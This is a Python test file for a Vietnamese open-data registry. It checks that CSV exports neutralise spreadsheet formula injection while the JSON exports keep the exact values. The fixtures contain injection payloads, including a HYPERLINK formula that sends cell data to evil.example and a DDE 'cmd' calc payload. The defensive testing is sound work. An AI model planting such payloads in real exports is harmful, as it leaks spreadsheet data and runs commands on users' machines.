"""CSV cells a spreadsheet would run as formulas are neutralised (OWASP); JSON keeps the exact value.

The round trip is checked against the documented rule (docs/du-lieu-mo.md): every CSV cell is
`spreadsheet_safe(value)`, and `original_value(cell)` gives the value the JSON holds.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import pytest

from registry.exports import write_open_data
from registry.exports.csv_export import agreement_row, original_value, spreadsheet_safe
from registry.exports.records import ExportContext
from registry.records.loader import load_registry
from registry.site.urls import SiteUrls

SITE_URL = "https://quychephoihop.github.io/"
DOCS = Path(__file__).parents[2] / "docs" / "du-lieu-mo.md"
FORMULA_TITLES = {
    "lang-son/2022-01-10-tt-hdnd-ubnd": '=HYPERLINK("https://evil.example/?x="&A1,"Quy chế phối hợp")',
    "lang-son/2022-01-11-tt-hdnd-ubnd": "+1+1 Quy chế phối hợp giữa HĐND và UBND",
    "lang-son/2022-01-12-tt-hdnd-ubnd": "-2+3 Quy chế phối hợp giữa HĐND và UBND",
    "lang-son/2022-01-13-tt-hdnd-ubnd": "@SUM(1+1) Quy chế phối hợp giữa HĐND và UBND",
    "lang-son/2022-01-14-tt-hdnd-ubnd": "\t=1+1 Quy chế phối hợp giữa HĐND và UBND",
    "lang-son/2022-01-15-tt-hdnd-ubnd": "'=1+1 Quy chế bắt đầu bằng dấu nháy đơn",
    "lang-son/2022-01-16-tt-hdnd-ubnd": "Quy chế phối hợp thường = không đổi",
}


def _record(title: str, signed: str) -> str:
    return (
        "---\n"
        f"title: {json.dumps(title, ensure_ascii=False)}\n"
        'number: "-01/QC-HĐND"\nprovince: lang-son\nlevel: huyen\nunit: "=cmd|\' /C calc\'!A0"\n'
        f"signed: {signed}\nterm: 2021-2026\nparties: [tt-hdnd, ubnd]\n"
        "sources:\n  - publisher: Báo Lạng Sơn\n    title: Tin thử nghiệm\n    url: https://baolangson.vn/a\n"
        "added: 2026-01-02\n---\nTóm tắt.\n"
    )


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("formulas") / "agreements"
    (root / "lang-son").mkdir(parents=True)
    for record_id, title in FORMULA_TITLES.items():
        (root / f"{record_id}.md").write_text(_record(title, record_id[9:19]), encoding="utf-8")
    result = load_registry(root, today=dt.date(2026, 11, 23))
    assert result.ok, [str(p) for p in result.problems]
    site = root.parent / "site"
    site.mkdir()
    write_open_data(result.registry, site, SITE_URL, dt.datetime(2026, 11, 23, tzinfo=dt.UTC))
    return result.registry, site


def _csv(site: Path, name: str) -> list[dict[str, str]]:
    with open(site / "api/v1" / name, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_the_rule_neutralises_what_spreadsheets_run_and_can_be_undone():
    for value in ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "'", "''x"]:
        assert spreadsheet_safe(value) == "'" + value and original_value(spreadsheet_safe(value)) == value
    for value in ["Quy chế", "", "1-2", " =1", "https://a.vn/=x"]:
        assert spreadsheet_safe(value) == value == original_value(value)


def test_every_csv_cell_follows_the_documented_rule(formula_site):
    registry, site = formula_site
    ctx = ExportContext(registry, SiteUrls(SITE_URL), "")
    rows = _csv(site, "quy-che.csv")
    expected = [agreement_row(ctx, a) for a in registry.agreements]
    assert rows == [{k: spreadsheet_safe(v) for k, v in row.items()} for row in expected]
    assert [{k: original_value(v) for k, v in row.items()} for row in rows] == expected
    titles = {row["id"]: row["title"] for row in rows}
    assert titles["lang-son/2022-01-10-tt-hdnd-ubnd"].startswith("'=HYPERLINK(")
    assert titles["lang-son/2022-01-14-tt-hdnd-ubnd"].startswith("'\t=")
    assert titles["lang-son/2022-01-16-tt-hdnd-ubnd"] == FORMULA_TITLES["lang-son/2022-01-16-tt-hdnd-ubnd"]
    assert {row["number"] for row in rows} == {"'-01/QC-HĐND"} and {row["unit"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    for row in _csv(site, "quy-che-co-quan.csv"):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_json_keeps_the_exact_values(formula_site):
    _, site = formula_site
    for record_id, title in FORMULA_TITLES.items():
        record = json.loads((site / f"api/v1/quy-che/{record_id}.json").read_text(encoding="utf-8"))
        assert record["title"] == title and record["number"] == "-01/QC-HĐND"


def test_the_open_data_page_states_the_rule():
    text = DOCS.read_text(encoding="utf-8")
    assert "OWASP" in text and "`=`, `+`, `-`, `@`, ký tự tab, ký tự CR hoặc dấu nháy đơn `'`" in text
